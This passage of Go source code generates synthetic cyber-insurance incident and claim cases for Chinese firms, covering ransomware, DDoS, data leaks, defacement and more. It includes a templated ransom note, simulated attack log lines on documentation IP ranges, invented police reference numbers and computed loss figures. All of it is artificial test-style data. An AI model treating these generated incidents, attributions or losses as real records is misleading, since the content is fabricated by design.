			return diWeigh(diProduct(s, "LC-DDOS"), 10) * diWeigh(diSection(o, "I", "F"), 2) * diWeigh(diProduct(s, diLiabilityProducts...), 0.3)
		},
		fill: fillDDoS}
	kindDataLeak = &diKind{key: "data_leak", cat: incident.CategoryDataSecurity, sub: incident.SubDataLeak, weight: 9,
		minLag: 6 * 24 * time.Hour, maxLag: 30 * 24 * time.Hour, hours: [2]int{9, 17}, mode: ModeRemote, containHours: 20, forensic: true,
		dispatchNote: "疑似客户个人信息泄露，请协助排查泄露途径并固定证据。",
		containNote:  "泄露途径已封堵，涉事接口和存储已下线整改",
		affinity: func(o *diOrg, s *diSlot) float64 {
			return diWeigh(diProduct(s, diLiabilityProducts...), 5) * diWeigh(diProduct(s, "YN-MCS"), 2) * diWeigh(diSection(o, "I", "F", "J", "Q"), 1.5)
		},
		fill: fillDataLeak}
	kindDefacement = &diKind{inHouse: 0.4, key: "defacement", cat: incident.CategoryNetworkAttack, sub: incident.SubWebDefacement, weight: 5,
		minLag: 30 * time.Minute, maxLag: 5 * time.Hour, hours: [2]int{8, 22}, mode: ModeRemote, containHours: 6,
		dispatchNote: "官网首页被篡改，请远程协助下线处置并排查入侵途径。",
		containNote:  "网站已下线，WebShell 已清除，首页恢复",
		affinity: func(o *diOrg, s *diSlot) float64 {
			return diWeigh(diSection(o, "I", "F", "P", "R"), 1.5) * diWeigh(diProduct(s, diLiabilityProducts...), 0.5)
		},
		fill: fillDefacement}
	kindHiddenLink = &diKind{inHouse: 0.6, key: "hidden_link", cat: incident.CategoryNetworkAttack, sub: "NALINK", weight: 3,
		minLag: 3 * 24 * time.Hour, maxLag: 25 * 24 * time.Hour, hours: [2]int{9, 17}, mode: ModeRemote, containHours: 8,
		dispatchNote: "官网被通报存在暗链，请远程协助排查清理。",
		containNote:  "暗链已清除，网站文件完整性已核对",
		fill:         fillHiddenLink}
	kindEquipment = &diKind{key: "equipment", cat: "DE", sub: "DETECH", weight: 4,
		minLag: 5 * time.Minute, maxLag: 40 * time.Minute, hours: [2]int{0, 23}, mode: ModeOnSite, containHours: 20,
		dispatchNote: "核心存储故障导致业务中断，请派员到场协助数据抢救。",
		containNote:  "业务已切换至备用存储恢复运行",
		fill:         fillEquipment}
	kindPower = &diKind{key: "power", cat: "DE", sub: "DEACCFAC", weight: 1.5,
		minLag: 5 * time.Minute, maxLag: 20 * time.Minute, hours: [2]int{0, 23}, mode: ModeOnSite, containHours: 16,
		dispatchNote: "机房断电后多台服务器无法启动，请派员到场协助恢复。",
		containNote:  "供电恢复，服务器和业务系统已恢复运行",
		fill:         fillPower}
	kindBEC = &diKind{key: "bec", cat: incident.CategoryDataSecurity, sub: "DSSOCENG", weight: 4,
		minLag: 2 * 24 * time.Hour, maxLag: 10 * 24 * time.Hour, hours: [2]int{9, 17}, mode: ModeRemote, containHours: 6,
		dispatchNote: "财务人员疑遭邮件诈骗转账，请协助排查邮箱是否被入侵并固定证据。",
		containNote:  "邮箱口令已重置并启用多因素认证，转发规则已清除",
		affinity:     func(o *diOrg, s *diSlot) float64 { return diWeigh(diSection(o, "F", "G", "C"), 1.5) },
		fill:         fillBEC}
	kindPhishing = &diKind{inHouse: 0.7, key: "phishing", cat: incident.CategoryNetworkAttack, sub: "NAPHISH", weight: 6,
		minLag: time.Hour, maxLag: 48 * time.Hour, hours: [2]int{8, 19}, mode: ModeRemote, containHours: 4,
		dispatchNote: "员工邮箱账号疑被盗用发送钓鱼邮件，请远程协助处置。",
		containNote:  "被盗账号已冻结并重置，钓鱼邮件已召回",
		fill:         fillPhishing}
	kindTrojan = &diKind{inHouse: 0.3, key: "trojan", cat: incident.CategoryMaliciousProgram, sub: "MPTROJ", weight: 6,
		minLag: 24 * time.Hour, maxLag: 5 * 24 * time.Hour, hours: [2]int{9, 18}, mode: ModeRemote, containHours: 10,
		dispatchNote: "财务终端疑感染远控木马，请远程协助排查处置。",
		containNote:  "受感染终端已隔离重装，同网段排查未发现其他感染",
		affinity:     func(o *diOrg, s *diSlot) float64 { return diWeigh(diProduct(s, "SY-EPP"), 2) },
		fill:         fillTrojan}
	kindMiner = &diKind{inHouse: 0.5, key: "miner", cat: incident.CategoryMaliciousProgram, sub: "MPMINER", weight: 3,
		minLag: 3 * 24 * time.Hour, maxLag: 20 * 24 * time.Hour, hours: [2]int{9, 18}, mode: ModeRemote, containHours: 8,
		dispatchNote: "服务器 CPU 长期满载，疑被植入挖矿程序，请远程协助排查。",
		containNote:  "挖矿进程及持久化项已清除，入侵途径已封堵",
		affinity:     func(o *diOrg, s *diSlot) float64 { return diWeigh(diProduct(s, "YN-MCS"), 2) },
		fill:         fillMiner}
	kindExploit = &diKind{key: "exploit", cat: incident.CategoryNetworkAttack, sub: "NAEXPLOIT", weight: 5,
		minLag: 24 * time.Hour, maxLag: 12 * 24 * time.Hour, hours: [2]int{8, 22}, mode: ModeRemote, containHours: 16, forensic: true,
		dispatchNote: "业务系统发现 WebShell，疑被漏洞利用入侵，请协助排查处置。",
		containNote:  "WebShell 已清除，漏洞已临时修补，涉事服务器已下线",
		affinity:     func(o *diOrg, s *diSlot) float64 { return diWeigh(diProduct(s, "YN-MCS"), 2) },
		fill:         fillExploit}
	kindOperatorError = &diKind{inHouse: 0.3, key: "operator_error", cat: "RO", sub: "ROPMISTAKE", weight: 3,
		minLag: 5 * time.Minute, maxLag: time.Hour, hours: [2]int{20, 23}, mode: ModeOnSite, containHours: 24,
		dispatchNote: "生产数据库数据被误删，请派员到场协助恢复。",
		containNote:  "数据已从备份和归档日志恢复，业务恢复运行",
		fill:         fillOperatorError}
	kindCredential = &diKind{inHouse: 0.4, key: "credential", cat: incident.CategoryNetworkAttack, sub: "NACRED", weight: 3,
		minLag: 24 * time.Hour, maxLag: 5 * 24 * time.Hour, hours: [2]int{8, 22}, mode: ModeRemote, containHours: 8,
		dispatchNote: "会员账户被批量异常登录，请协助排查撞库攻击。",
		containNote:  "已启用登录风控和短信验证，异常账户已冻结",
		affinity: func(o *diOrg, s *diSlot) float64 {
			return diWeigh(diSection(o, "F", "I", "H"), 2) * diWeigh(diProduct(s, diLiabilityProducts...), 2)
		},
		fill: fillCredential}
	kindInsider = &diKind{key: "insider", cat: "RO", sub: "ROPABUSE", weight: 2.5,
		minLag: 20 * 24 * time.Hour, maxLag: 60 * 24 * time.Hour, hours: [2]int{9, 17}, mode: ModeRemote, containHours: 12, forensic: true,
		dispatchNote: "疑有离职员工违规导出并出售客户信息，请协助调查取证。",
		containNote:  "涉事账号已注销，数据导出权限已收紧",
		affinity:     func(o *diOrg, s *diSlot) float64 { return diWeigh(diProduct(s, diLiabilityProducts...), 4) },
		fill:         fillInsider}
	kindRetailOutage = &diKind{key: "retail_outage", cat: incident.CategoryNetworkAttack, sub: incident.SubDenialOfService, weight: 1,
		minLag: 5 * time.Minute, maxLag: 20 * time.Minute, hours: [2]int{10, 20}, mode: ModeRemote, containHours: 8,
		dispatchNote: "门店收银和线上支付中断，请立即远程协助处置。",
		containNote:  "攻击流量已清洗，收银和支付恢复",
		fits: func(o *diOrg, _ diSlot) bool {
			return diSection(o, "F", "G", "H", "D") && (o.prof().Size == anbao.SizeMedium || o.prof().Size == anbao.SizeLarge)
		},
		fill: fillRetailOutage}
	kindAccess = &diKind{inHouse: 0.8, key: "access", cat: "AB", sub: "ABACCESS", weight: 2,
		minLag: time.Hour, maxLag: 12 * time.Hour, hours: [2]int{7, 23}, mode: ModeRemote, containHours: 3,
		dispatchNote: "VPN 账号出现境外异常登录，请协助排查。",
		containNote:  "涉事账号已禁用，未发现进一步入侵",
		fill:         fillAccess}
	kindVuln = &diKind{inHouse: 0.7, key: "vuln", cat: "SHE", sub: "SHEVULN", weight: 2,
		minLag: time.Hour, maxLag: 24 * time.Hour, hours: [2]int{9, 17}, mode: ModeRemote, containHours: 6,
		dispatchNote: "收到漏洞通报，请远程协助核查和修复。",
		containNote:  "漏洞已修复并复测通过",
		fill:         fillVuln}
)

// diKinds are the kinds the random cases are drawn from.
var diKinds = []*diKind{kindRansomware, kindDDoS, kindDataLeak, kindDefacement, kindHiddenLink, kindEquipment, kindPower, kindBEC,
	kindPhishing, kindTrojan, kindMiner, kindExploit, kindOperatorError, kindCredential, kindInsider, kindAccess, kindVuln}

var diEngineers = []string{"张伟", "王磊", "李娜", "刘洋", "陈杰", "杨帆", "赵强", "黄磊", "周敏", "吴昊", "徐静", "孙鹏", "马骁", "朱琳",
	"胡斌", "郭峰", "何旭", "高翔", "林涛", "罗明", "梁晨", "宋佳", "郑凯", "谢宇"}

var diServiceNote = map[string]string{
	"incident_response_hours": "应急响应工程师工时",
	"forensics":               "电子数据取证服务",
	"data_recovery":           "数据恢复服务",
	"ddos_mitigation":         "DDoS 流量清洗服务",
}

// diSystems are plausible business systems by industry section.
var diSystems = map[string][]string{
	"C": {"用友 U8 ERP 服务器", "MES 制造执行系统", "PLM 图纸文档服务器", "金蝶财务系统", "WMS 仓储管理系统"},
	"F": {"网上商城系统", "门店收银 POS 系统", "会员管理系统", "WMS 仓储管理系统", "订单中台"},
	"G": {"TMS 运输管理系统", "订舱及报关系统", "车辆调度平台", "WMS 仓储管理系统"},
	"I": {"SaaS 业务平台", "官网及 API 网关", "客户工单系统", "GitLab 代码仓库", "对象存储服务"},
	"J": {"信贷业务系统", "客户关系管理系统", "网上服务平台", "财务核算系统"},
	"Q": {"HIS 医院信息系统", "LIS 检验信息系统", "PACS 影像系统"},
	"D": {"营销收费系统", "调度监控系统", "客户服务系统"},
	"":  {"OA 协同办公系统", "财务系统", "文件服务器", "ERP 系统", "客户管理系统"},
}

func (c *diCase) systems(n int) []string {
	list := diSystems[c.ent.section]
	if len(list) < n {
		list = append(slices.Clone(list), diSystems[""]...)
	}
	out := make([]string, 0, n)
	for _, i := range c.l.r.Perm(len(list)) {
		if len(out) < n && !slices.Contains(out, list[i]) {
			out = append(out, list[i])
		}
	}
	return out
}

// scale sizes losses to the enterprise.
func (c *diCase) scale() float64 {
	switch c.ent.prof().Size {
	case anbao.SizeMicro:
		return 0.35
	case anbao.SizeSmall:
		return 0.6
	case anbao.SizeLarge:
		return 1.8
	}
	return 1
}

// amt draws a loss between lo and hi yuan, sized to the enterprise.
func (c *diCase) amt(lo, hi float64) int64 { s := c.scale(); return c.l.amount(lo*s, hi*s) }

// add adds a loss item when the terms carry its coverage.
func (c *diCase) add(kind, cov string, amount int64, note string) {
	if c.claim == nil || amount <= 0 || c.terms.Coverage(cov) == nil {
		return
	}
	c.claim.items = append(c.claim.items, ClaimItem{Item: claims.Item{ID: fmt.Sprintf("L%d", len(c.claim.items)+1), Kind: kind,
		Coverage: cov, Amount: amount}, Note: note})
}

// addBI adds business-interruption income loss for an outage of hours
// affecting share of the enterprise's business.
func (c *diCase) addBI(hours int, share float64, note string) {
	if c.claim == nil || c.terms.Coverage(cover.CovBusinessInterruption) == nil || hours < 1 {
		return
	}
	// Gross profit and standing costs: about 35% of revenue a day.
	daily := float64(c.ent.prof().RevenueFen) / 365 * 0.35 * share
	daily = min(max(daily, 800*100), float64(c.terms.AggregateLimit)/6)
	days := min((hours+23)/24, claims.MaxDays)
	it := ClaimItem{Item: claims.Item{ID: fmt.Sprintf("L%d", len(c.claim.items)+1), Kind: claims.KindBILoss,
		Coverage: cover.CovBusinessInterruption, OutageHours: hours}, Note: note}
	for d := range days {
		h := min(24, hours-24*d)
		// Recovery is gradual: the last days lose less.
		v := int64(daily*float64(h)/24*(1-0.15*float64(d))) / 10_000 * 10_000
		it.DailyLoss = append(it.DailyLoss, max(v, 10_000))
		it.Amount += it.DailyLoss[d]
	}
	c.claim.items = append(c.claim.items, it)
}

// addLiability adds third parties' damages and the defence costs under the
// data-leak or the network-security liability coverage.
func (c *diCase) addLiability(third, defence int64, what string) {
	if c.claim == nil {
		return
	}
	cov := cover.CovDataLeakLiability
	if c.terms.Coverage(cov) == nil || !slices.Contains([]string{"data_leak", "insider", "credential"}, c.kind.key) {
		cov = cover.CovSecurityLiability
	}
	if c.terms.Coverage(cov) == nil {
		return
	}
	c.add(claims.KindThirdParty, cov, third, what)
	c.add(claims.KindDefence, cov, defence, "律师代理费及诉讼费用")
	c.claim.claimMade = true
}

// addRansom adds the ransom demanded (its CNY value) under cyber extortion.
func (c *diCase) addRansom() {
	r := c.in.Details.Ransomware
	if c.claim == nil || r == nil || c.terms.Coverage(cover.CovExtortion) == nil {
		return
	}
	c.add(claims.KindRansom, cover.CovExtortion, r.RansomDemandFen, fmt.Sprintf("勒索方要求支付 %s 等值 %s", r.Currency, cover.Yuan(r.RansomDemandFen)))
	// The ransom first of the extortion items: it takes the sublimit before the handling costs.
	items := c.claim.items
	last := len(items) - 1
	if last < 0 || items[last].Kind != claims.KindRansom {
		return
	}
	for i := range items[:last] {
		if items[i].Coverage == cover.CovExtortion {
			ransom := items[last]
			copy(items[i+1:], items[i:last])
			items[i] = ransom
			break
		}
	}
	for i := range items {
		items[i].ID = fmt.Sprintf("L%d", i+1)
	}
}

// capItems keeps the claimed total believable against the limit.
func (c *diCase) capItems() {
	if c.claim == nil || c.terms == nil {
		return
	}
	total, limit := c.claim.total(), c.terms.AggregateLimit
	if limit <= 0 || total <= limit+limit/5 {
		return
	}
	ratio := float64(limit) * (0.75 + 0.4*c.l.r.Float64()) / float64(total)
	for i := range c.claim.items {
		it := &c.claim.items[i]
		if len(it.DailyLoss) > 0 {
			it.Amount = 0
			for d := range it.DailyLoss {
				it.DailyLoss[d] = max(int64(float64(it.DailyLoss[d])*ratio)/10_000*10_000, 10_000)
				it.Amount += it.DailyLoss[d]
			}
			continue
		}
		it.Amount = max(int64(float64(it.Amount)*ratio)/10_000*10_000, 10_000)
	}
}

func (c *diCase) policeRef() string {
	return fmt.Sprintf("网安受案字〔%d〕%04d号", c.discovered.In(anbao.Shanghai).Year(), c.l.between(12, 2600))
}

// bj formats an instant as Beijing wall time for evidence text.
func diBJ(t time.Time) string { return t.In(anbao.Shanghai).Format("2006-01-02 15:04:05") }

// ip draws an address of the documentation ranges (RFC 5737).
func (c *diCase) ip() string {
	return fmt.Sprintf("%s.%d", c.l.pick([]string{"203.0.113", "198.51.100", "192.0.2"}), c.l.between(2, 250))
}

func (c *diCase) forensicReport(findings string) diEvidence {
	text := fmt.Sprintf("电子数据取证报告（摘要）\n委托单位：%s\n事件：%s\n发现时间：%s\n检材：受影响主机磁盘镜像、内存镜像及网络设备日志（SHA-256 见证据清单）\n"+
		"分析结论：%s\n处置建议：%s\n", c.ent.NameZH, c.in.Title, diBJ(c.discovered), findings, c.in.Details.NextSteps)
	return diEvidence{kind: "forensic_report", name: "电子数据取证报告.txt", note: "取证分析结论", content: []byte(text), byProvider: true}
}

func fillRansomware(c *diCase) {
	l := c.l
	f := diFamilies[l.r.IntN(len(diFamilies))]
	sys := c.systems(2)
	n := l.between(3, 16)
	if c.ent.prof().Size == anbao.SizeLarge {
		n = l.between(12, 60)
	}
	backup := l.between(2, 9)
	demand := l.amount(200_000, 1_500_000)
	currency := l.pick([]string{"BTC", "BTC", "USDT"})
	c.in.Title = fmt.Sprintf("%s遭 %s 勒索软件加密", sys[0], f.name)
	c.in.Details = IncidentDetails{
		AffectedSystems: fmt.Sprintf("%s、%s等 %d 台服务器文件被加密，扩展名被改为 %s", sys[0], sys[1], n, f.ext),
		AffectedData:    fmt.Sprintf("生产订单、财务凭证和设计图纸等业务数据被加密；最近一次离线备份为 %d 天前。", backup),
		Measures:        "断开受感染服务器网络连接，关闭对外映射的远程管理端口，重置域管理员和服务账号口令，保留勒索信和加密样本，使用离线备份恢复",
		Trend:           "已阻断横向移动，未发现新的加密行为",
		Cause:           f.entry + "，攻击者取得域管理员权限后通过组策略批量投放勒索程序。",
		Leads:           "勒索信中的联系方式；攻击源 IP 为境外云主机",
		NextSteps:       "重建域控和受感染服务器，关闭不必要的对外端口，部署终端检测与响应（EDR）并对远程访问启用多因素认证。",
		Preservation:    "对受感染服务器制作磁盘镜像，导出防火墙、VPN 及域控安全日志。",
		CrimeSuspected:  true,
		Ransomware: &Ransomware{Family: f.name, RansomDemandFen: demand, Currency: currency,
			EncryptedSystems: fmt.Sprintf("%s、%s", sys[0], sys[1]), ContactChannel: f.contact},
	}
	if l.r.IntN(2) == 0 {
		c.in.Details.PoliceRef = c.policeRef()
	}
	pr := c.ent.prof()
	outage := l.between(20, 90)
	switch {
	case c.want == incident.GradeMajor && pr.CII:
		m := int64(l.between(380, 640))
		c.in.Facts = incident.Facts{CII: true, OutageMainMinutes: m, DirectLossFen: c.amt(800_000, 2_500_000)}
		c.in.Title = fmt.Sprintf("勒索软件攻击导致%s主要功能中断 %d 小时", sys[0], m/60)
		outage = int(m/60) + l.between(24, 60)
	case c.want != incident.GradeGeneral && pr.CII:
		m := int64(l.between(150, 330))
		c.in.Facts = incident.Facts{CII: true, OutageMainMinutes: m}
		c.in.Title = fmt.Sprintf("勒索软件攻击导致%s主要功能中断", sys[0])
		outage = int(m/60) + l.between(12, 40)
	case c.want != incident.GradeGeneral && diSection(c.ent, "F", "G", "H") && pr.Size != anbao.SizeMicro:
		c.in.Facts = incident.Facts{PopulationAffected: int64(l.between(110, 260)) * 1000}
		c.in.Details.AffectedData += "门店收银中断，影响消费者购物。"
	case c.want != incident.GradeGeneral && (pr.Size == anbao.SizeLarge || pr.Size == anbao.SizeMedium):
		c.in.Facts = incident.Facts{DirectLossFen: int64(l.between(52, 86)) * 100_000 * 100, SystemLoss: incident.SeriousnessRelatively}
	case c.want != incident.GradeGeneral && pr.Size == anbao.SizeSmall:
		c.in.Facts = incident.Facts{SystemLoss: incident.SeriousnessRelatively, DirectLossFen: c.amt(300_000, 1_800_000)}
	default:
		c.in.Facts = incident.Facts{DirectLossFen: c.amt(120_000, 1_800_000)}
	}
	c.services = []string{"incident_response_hours", "data_recovery", "forensics"}
	note := fmt.Sprintf("YOUR FILES ARE ENCRYPTED (%s)\n\nAll your important files have been encrypted.\nDo not rename encrypted files and do not use third-party decryptors.\n"+
		"To restore your data contact us: %s.\nYour personal ID: %X\n", f.name, f.contact, l.r.Uint64())
	c.evidence = []diEvidence{
		{kind: "ransom_note", name: "RESTORE-FILES.txt", note: "从被加密服务器桌面提取的勒索信", content: []byte(note)},
		{kind: "log", name: "防火墙会话日志.txt", note: "导出事发前 24 小时边界防火墙会话日志", content: fmt.Appendf(nil,
			"%s permit tcp src=%s:%d dst=10.10.1.%d:%d rule=nat-map-%d\n%s permit tcp src=%s:%d dst=10.10.1.%d:%d rule=nat-map-%d\n",
			diBJ(c.occurred.Add(-3*time.Hour)), c.ip(), l.between(40000, 60000), l.between(10, 60), f.port, l.between(1, 9),
			diBJ(c.occurred.Add(-40*time.Minute)), c.ip(), l.between(40000, 60000), l.between(10, 60), f.port, l.between(1, 9))},
		{kind: "disk_image", name: sys[0] + "系统盘镜像（E01）", note: "使用写保护器采集，FTK Imager 计算 SHA-256", byProvider: true},
		c.forensicReport(fmt.Sprintf("攻击入口为%s；攻击者于 %s 首次登录，%s 开始批量加密；未发现数据外传的确凿证据。", f.entry,
			diBJ(c.occurred.Add(-time.Duration(l.between(2, 20))*time.Hour)), diBJ(c.occurred))),
	}
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(40_000, 160_000), "应急响应及电子数据取证服务费")
	c.add(claims.KindDataRestoration, cover.CovDataRestoration, c.amt(50_000, 320_000), "数据恢复及系统重建费用")
	c.addBI(outage, 0.4+0.5*l.r.Float64(), fmt.Sprintf("生产及订单系统停运约 %d 小时", outage))
	c.add(claims.KindRansomHandling, cover.CovExtortion, c.amt(15_000, 60_000), "勒索事件谈判及处置顾问费用")
	if l.r.IntN(3) == 0 {
		c.add(claims.KindHardware, cover.CovHardware, c.amt(20_000, 120_000), "被加密无法恢复的 NAS 存储设备更换")
	}
	if pr.Size == anbao.SizeLarge || c.want != incident.GradeGeneral {
		c.add(claims.KindPR, cover.CovPublicRelations, c.amt(30_000, 100_000), "危机公关及客户沟通费用")
	}
	c.addExclusion("war_cyber_operation", false, "无证据表明系国家或其代表实施的网络行动，攻击者为以牟利为目的的勒索团伙。")
}

var diFamilies = []struct {
	name, entry, ext, contact string
	port                      int
}{
	{"Mallox", "对外映射的 SQL Server 1433 端口 sa 账号弱口令被爆破", ".mallox", "Tor 网站聊天页面", 1433},
	{"Phobos", "对外开放的远程桌面（RDP）弱口令被爆破", ".eking", "勒索信中的电子邮箱", 3389},
	{"LockBit 3.0", "VPN 账号凭据泄露后被攻击者远程登录", ".lockbit", "Tor 网站聊天页面", 443},
	{"Tellyouthepass", "OA 系统反序列化漏洞被利用", ".locked", "勒索信中的电子邮箱", 8080},
	{"Makop", "运维跳板机远程桌面弱口令被爆破", ".makop", "勒索信中的电子邮箱", 3389},
	{"BeijingCrypt", "员工打开钓鱼邮件附件，终端被植入远控后横向移动", ".beijing", "勒索信中的 Tox ID", 445},
}

func fillDDoS(c *diCase) {
	l := c.l
	hours := l.between(3, 30)
	peak := l.between(60, 600)
	extort := l.r.IntN(3) == 0
	c.in.Title = l.pick([]string{"官网及 API 网关遭大流量 DDoS 攻击", "电商平台遭 CC 攻击导致访问中断", "对外业务系统遭 UDP 反射放大攻击"})
	c.in.Details = IncidentDetails{
		AffectedSystems: "对外业务网站及 API 网关（源站带宽 1 Gbps）",
		Measures:        "切换至云防护高防 IP，启用运营商近源清洗和 CC 防护规则，对异常来源地区限流",
		Trend:           "攻击已停止，持续监测",
		Cause:           fmt.Sprintf("攻击峰值约 %d Gbps，持续约 %d 小时，攻击源为境外僵尸网络约 %d 万个 IP。", peak, hours, l.between(2, 40)),
		NextSteps:       "常态化接入云防护，源站 IP 更换并隐藏，完善 DDoS 应急预案。",
	}
	if extort {
		c.in.Details.Cause += "攻击前曾收到要求支付比特币的勒索邮件。"
		c.in.Details.CrimeSuspected = true
	}
	c.in.Facts = incident.Facts{SiteKind: incident.SiteOther, SiteUnreachableMinutes: int64(hours*60 - l.between(0, 50))}
	c.services = []string{"ddos_mitigation", "incident_response_hours"}
	c.evidence = []diEvidence{
		{kind: "network_capture", name: "攻击流量抽样（pcap）", note: "清洗设备抽样留存", byProvider: true},
		{kind: "log", name: "流量监测报告.txt", note: "清洗中心导出", byProvider: true, content: fmt.Appendf(nil,
			"攻击开始：%s\n攻击结束：%s\n峰值：%d Gbps / %d Mpps\n攻击类型：UDP 反射（NTP/Memcached）、HTTP CC\n", diBJ(c.occurred),
			diBJ(c.occurred.Add(time.Duration(hours)*time.Hour)), peak, peak/8)},
	}
	c.addBI(hours, 0.5+0.4*l.r.Float64(), fmt.Sprintf("线上业务中断约 %d 小时", hours))
	c.add(claims.KindExtraExpense, cover.CovBusinessInterruption, c.amt(10_000, 80_000), "临时采购高防 IP 及带宽扩容费用")
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(8_000, 40_000), "应急响应服务费")
}

func fillRetailOutage(c *diCase) {
	l := c.l
	hours := l.between(4, 14)
	c.in.Title = "门店收银及线上支付系统遭 DDoS 攻击中断"
	c.in.Details = IncidentDetails{
		AffectedSystems: "门店收银 POS 系统、线上支付网关及会员小程序",
		AffectedData:    "未发现数据泄露",
		Measures:        "切换支付网关至云防护，门店启用离线收银，发布服务中断公告",
		Trend:           "攻击仍在持续，清洗后业务逐步恢复",
		Cause:           "支付网关公网地址遭大流量 DDoS 攻击，源站带宽被占满。",
		NextSteps:       "支付网关接入常态化防护，建设异地容灾链路。",
	}
	people := int64(l.between(20, 80)) * 1000
	if c.want != incident.GradeGeneral {
		people = int64(l.between(110, 280)) * 1000
	}
	c.in.Facts = incident.Facts{PopulationAffected: people}
	c.services = []string{"ddos_mitigation", "incident_response_hours"}
	c.evidence = []diEvidence{{kind: "network_capture", name: "攻击流量抽样（pcap）", note: "清洗设备抽样留存", byProvider: true}}
	c.addBI(hours, 0.6+0.3*l.r.Float64(), fmt.Sprintf("门店收银和线上支付中断约 %d 小时", hours))
	c.add(claims.KindExtraExpense, cover.CovBusinessInterruption, c.amt(20_000, 120_000), "临时离线收银设备及加班费用")
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(10_000, 50_000), "应急响应服务费")
	c.add(claims.KindPR, cover.CovPublicRelations, c.amt(20_000, 80_000), "消费者沟通及媒体应对费用")
}

func fillDataLeak(c *diCase) {
	l := c.l
	subj := map[string]string{"F": "会员", "I": "注册用户", "J": "客户", "Q": "患者", "H": "会员", "P": "学员", "C": "经销商及客户"}[c.ent.section]
	if subj == "" {
		subj = "客户"
	}
	sys := c.systems(1)[0]
	v := []struct{ title, cause, found string }{
		{subj + "信息数据库因 Elasticsearch 未授权访问泄露", "运维人员为排查问题临时将 Elasticsearch 9200 端口映射至公网且未设置认证，数据被境外 IP 批量拉取。",
			"客户投诉接到冒充客服的精准诈骗电话"},
		{"对象存储桶误设为公共读，" + subj + "信息遭批量下载", "对象存储桶访问权限被误设为公共读，存放的" + subj + "信息导出文件可被任意下载。",
			"安全厂商情报通报数据在境外论坛出售"},
		{sys + "遭 SQL 注入，" + subj + "个人信息被窃取", sys + "查询接口存在 SQL 注入漏洞，攻击者批量导出数据表。", "安全厂商情报通报数据在境外论坛出售"},
		{subj + "信息在境外论坛被兜售，溯源确认来自" + sys, sys + "的测试接口未下线且无鉴权，攻击者遍历接口批量获取数据。", "监管部门通报及" + subj + "投诉"},
	}[l.r.IntN(4)]
	people := int64(l.between(3, 120)) * 1000
	if c.ent.prof().Size == anbao.SizeMedium || c.ent.prof().Size == anbao.SizeLarge {
		people = int64(l.between(20, 600)) * 1000
	}
	if c.want != incident.GradeGeneral && c.ent.prof().Size != anbao.SizeMicro {
		people = int64(l.between(1050, 2400)) * 1000
	}
	c.in.Title = v.title
	c.in.Details = IncidentDetails{
		AffectedSystems: "客户关系管理系统及其数据库",
		AffectedData:    fmt.Sprintf("客户姓名、手机号和收货地址等个人信息约 %d 万条。", max(people/10_000, 1)),
		Measures:        "关闭公网访问并下线涉事接口，轮换数据库凭据，向受影响客户发送防诈骗提醒，联系平台下架售卖信息",
		Trend:           "泄露途径已封堵，仍在监测数据扩散情况",
		Cause:           v.cause,
		Leads:           v.found,
		NextSteps:       "开展个人信息保护影响评估，完善数据分类分级和访问控制，对外接口上线前进行安全测试。",
		Preservation:    "保存数据库访问日志、对象存储访问日志和境外论坛售卖页面截图。",
		CrimeSuspected:  true,
	}
	c.in.Facts = incident.Facts{PILeakedPeople: people}
	c.services = []string{"incident_response_hours", "forensics"}
	c.evidence = []diEvidence{
		{kind: "log", name: "数据库访问日志.txt", note: "导出异常查询时段日志", content: fmt.Appendf(nil,
			"%s GET /_search?size=10000&scroll=5m src=%s status=200 bytes=%d\n%s GET /_search/scroll src=%s status=200 bytes=%d\n",
			diBJ(c.occurred), c.ip(), l.between(8, 40)*1_000_000, diBJ(c.occurred.Add(3*time.Minute)), c.ip(), l.between(8, 40)*1_000_000)},
		{kind: "screenshot", name: "境外论坛售卖页面截图", note: "情报人员截取", byProvider: true},
		c.forensicReport("数据于事发时段被外部 IP 批量拉取，泄露范围与售卖样本比对一致；未发现其他系统受影响。"),
	}
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(40_000, 180_000), "泄露调查及取证服务费")
	c.add(claims.KindLegal, cover.CovLegal, c.amt(30_000, 200_000), "个人信息保护合规律师费用")
	c.add(claims.KindPR, cover.CovPublicRelations, c.amt(20_000, 150_000), "客户通知及舆情应对费用")
	k := math.Log10(float64(people)) / 5
	c.addLiability(int64(float64(c.amt(60_000, 500_000))*k)/10_000*10_000, c.amt(40_000, 200_000), "受影响客户因诈骗损失提出的赔偿请求")
	c.addExclusion("unlawful_collection", false, "涉事个人信息系依法经用户同意收集，用于约定的订单履行目的。")
}

func fillDefacement(c *diCase) {
	l := c.l
	c.in.Title = l.pick([]string{"官网首页被篡改并植入博彩推广内容", "企业官网被篡改，首页挂出违法广告", "官网新闻页面被篡改植入赌博链接"})
	c.in.Details = IncidentDetails{
		AffectedSystems: "企业官网（开源 CMS）",
		Measures:        "网站切换至维护页面，清除 WebShell 和篡改内容，修改后台口令并限制后台访问来源",
		Trend:           "已恢复",
		Cause:           "网站内容管理系统后台弱口令被爆破，攻击者上传 WebShell 后篡改首页。",
		NextSteps:       "升级 CMS 版本，后台仅限内网访问，部署网页防篡改。",
		Preservation:    "保存篡改页面截图和 Web 访问日志。",
	}
	m := int64(l.between(40, 400))
	c.in.Facts = incident.Facts{SiteKind: incident.SiteOther, DefacementHomepageMinutes: m}
	if c.want != incident.GradeGeneral && diSection(c.ent, "I", "F", "R") {
		c.in.Title = "网络平台首页被篡改，违法有害信息在首页展示"
		c.in.Details.AffectedSystems = "面向公众的网络平台首页及移动端首页"
		c.in.Facts = incident.Facts{SiteKind: incident.SitePlatform, DefacementHomepageMinutes: int64(l.between(35, 110)),
			Views: int64(l.between(12, 80)) * 1000, Reposts: int64(l.between(40, 600))}
	}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{
		{kind: "screenshot", name: "篡改首页截图", note: "发现时截取"},
		{kind: "log", name: "Web 访问日志.txt", note: "导出后台登录时段日志", content: fmt.Appendf(nil,
			"%s POST /admin/login.php 200 src=%s\n%s POST /admin/upload.php 200 src=%s file=tmp_%d.php\n", diBJ(c.occurred.Add(-2*time.Hour)),
			c.ip(), diBJ(c.occurred.Add(-90*time.Minute)), c.ip(), l.between(100, 999))},
	}
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(10_000, 50_000), "应急响应服务费")
	c.add(claims.KindDataRestoration, cover.CovDataRestoration, c.amt(8_000, 40_000), "网站重建及内容恢复费用")
	c.add(claims.KindPR, cover.CovPublicRelations, c.amt(10_000, 60_000), "舆情监测及声明发布费用")
}

func fillHiddenLink(c *diCase) {
